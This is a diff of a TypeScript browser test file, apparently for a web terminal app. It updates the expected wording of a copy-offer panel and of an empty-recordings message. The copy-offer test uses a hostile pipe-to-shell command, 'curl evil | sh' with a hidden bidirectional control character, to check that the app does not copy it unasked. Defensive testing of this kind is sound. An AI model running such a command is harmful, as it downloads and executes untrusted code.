@@ -144,7 +144,7 @@ async function asksToCopy(t: Test, { address, page }: Visit): Promise<void> {
   const offer = page.locator('.copy-offer');
   await offer.waitFor();
   t.equal(await offer.locator('pre').innerText(), 'curl evil | sh<202E>\n');
-  t.match(await offer.innerText(), /16 characters, a line break at its end/);
+  t.match(await offer.innerText(), /16 characters, ends with a line break/);
   t.equal(await clipboardOf(page), 'mine', 'nothing was copied unasked');
   await shoot(page, 'copy-offer');
   await offer.getByRole('button', { name: 'Dismiss' }).click();
@@ -212,7 +212,7 @@ async function isRecorded(t: Test, { address, page }: Visit): Promise<void> {
   await page.getByRole('button', { name: 'Delete' }).click();
   await shoot(page, 'recording-delete');
   await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
-  await page.getByText('There is no recording').waitFor();
+  await page.getByText('No recordings yet').waitFor();
   await page.goto(terminal);
   await page.locator('.xterm').waitFor();
   await page.locator('.xterm-helper-textarea').focus();
